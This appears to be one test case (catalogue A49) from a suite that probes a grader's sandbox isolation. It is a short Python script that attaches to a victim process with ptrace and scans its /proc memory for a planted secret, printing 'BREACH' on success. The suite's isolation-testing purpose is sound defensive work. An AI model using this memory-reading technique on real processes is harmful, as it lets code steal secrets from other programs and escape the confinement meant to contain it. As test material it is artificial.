# attack: traces another process of the grader's and reads its memory
# catalogue: A49
# open on: D as root
# needs: victim
# %%
import ctypes
import os
import re

libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, int("@VICTIM@"), 0, 0) == 0:
    print("BREACH ptrace")
    os.waitpid(int("@VICTIM@"), 0x40000000)
    libc.ptrace(17, int("@VICTIM@"), 0, 0)
try:
    with open("/proc/@VICTIM@/maps") as maps, open("/proc/@VICTIM@/mem", "rb", 0) as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if "rw" in line and end - start < 1 << 28:
                memory.seek(start)
                for found in re.finditer(rb"victim-secret-[0-9a-f]{16}", memory.read(end - start)):
                    print("BREACH memory", found[0].decode())
except (OSError, OverflowError) as error:
    print(type(error).__name__)
